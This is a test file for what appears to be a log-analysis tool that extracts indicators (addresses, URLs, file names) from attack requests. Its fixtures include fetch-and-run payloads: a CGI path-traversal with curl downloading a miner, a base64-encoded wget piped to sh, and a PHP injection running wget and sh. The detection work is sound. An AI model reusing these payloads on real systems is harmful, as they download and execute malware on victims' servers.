/**
 * Indicators named in a payload (URLs, addresses, file names), found once per distinct text however many
 * clients send it: the attacker's own address is never one of them, whichever client asked first.
 */
import assert from "node:assert/strict";
import { test } from "node:test";
import { indicatorsOf } from "../../src/checks/logs/analyze.ts";
import { base64Runs } from "../../src/checks/logs/base64-runs.ts";

const PAYLOAD =
  "POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1 echo;curl http://198.51.100.9/x/kdevtmpfsi -o /tmp/kdevtmpfsi;ping 203.0.113.5";

test("one text from two clients: each answer leaves out that client's own address, and only it", () => {
  const a = indicatorsOf(PAYLOAD, "203.0.113.5");
  const b = indicatorsOf(PAYLOAD, "198.51.100.9");
  const c = indicatorsOf(PAYLOAD, "192.0.2.1");
  assert.deepEqual(a.ips, ["198.51.100.9"]);
  assert.deepEqual(b.ips, ["203.0.113.5"]);
  assert.deepEqual(c.ips, ["198.51.100.9", "203.0.113.5"]);
  assert.ok(a.files.includes("kdevtmpfsi") && b.files.includes("kdevtmpfsi"));
  assert.deepEqual(a.urls, ["http://198.51.100.9/x/kdevtmpfsi"]);
});

test("fifty addresses at most, after the client's own is taken out", () => {
  const ips = Array.from({ length: 60 }, (_, i) => `192.0.2.${i + 1}`);
  const text = `GET /?x=${ips.join(",")} HTTP/1.1`;
  const own = indicatorsOf(text, "192.0.2.3");
  assert.equal(own.ips.length, 50);
  assert.ok(!own.ips.includes("192.0.2.3"));
  assert.equal(own.ips[49], "192.0.2.51");
  const other = indicatorsOf(text, "198.51.100.1");
  assert.deepEqual(other.ips, ips.slice(0, 50));
});

test("a base64 blob and a doubly encoded URL name their indicators too", () => {
  const cmd = Buffer.from("wget http://192.0.2.77/red.sh -O /tmp/redtail").toString("base64");
  const b64 = indicatorsOf(`GET /?c=echo%20${cmd}%7Cbase64%20-d%7Csh HTTP/1.1`, "198.51.100.1");
  assert.ok(b64.urls.includes("http://192.0.2.77/red.sh"), JSON.stringify(b64));
  assert.ok(b64.files.includes("redtail") && b64.files.includes("red.sh"), JSON.stringify(b64));
  const twice = indicatorsOf("GET /?u=http%253A%252F%252F192.0.2.8%252Fm.sh HTTP/1.1", "198.51.100.1");
  assert.ok(twice.urls.includes("http://192.0.2.8/m.sh"), JSON.stringify(twice));
});

test("base64 runs are what the regex /[A-Za-z0-9+/]{16,}={0,2}/g finds, on random and edge texts", () => {
  const alphabet = ["a", "Z", "0", "+", "/", "=", " ", "%", "é", "-", "\u{1f600}"];
  let seed = 7;
  const next = () => {
    seed = (Math.imul(seed, 1103515245) + 12345) >>> 0;
    return seed;
  };
  const texts = [
    "",
    "=".repeat(5),
    `${"a".repeat(15)}=`,
    `${"a".repeat(16)}===`,
    "ZWNobyBoZWxsbyB3b3JsZA==x",
    `é${"Y3VybCBodHRwOi8vMS4yLjMuNC94".repeat(3)}é`,
  ];
  for (let i = 0; i < 2000; i++) {
    let t = "";
    const len = next() % 80;
    for (let k = 0; k < len; k++) {
      const c = alphabet[next() % alphabet.length] as string;
      t += c.repeat(1 + (next() % 20));
    }
    texts.push(t);
  }
  for (const t of texts)
    assert.deepEqual(
      base64Runs(t),
      [...t.matchAll(/[A-Za-z0-9+/]{16,}={0,2}/g)].map((m) => m[0]),
      JSON.stringify(t),
    );
});

test("a form's '+' is a space: the URL a command fetched is named once, without what followed it", () => {
  const ind = indicatorsOf(
    "GET /index.php?s=x&vars[1][]=wget+http://192.0.2.210/x.sh+-O+/tmp/x;sh+/tmp/x HTTP/1.1",
    "198.51.100.1",
  );
  assert.deepEqual(ind.urls, ["http://192.0.2.210/x.sh"]);
  assert.ok(ind.files.includes("x.sh") && ind.files.includes("x"), JSON.stringify(ind));
});
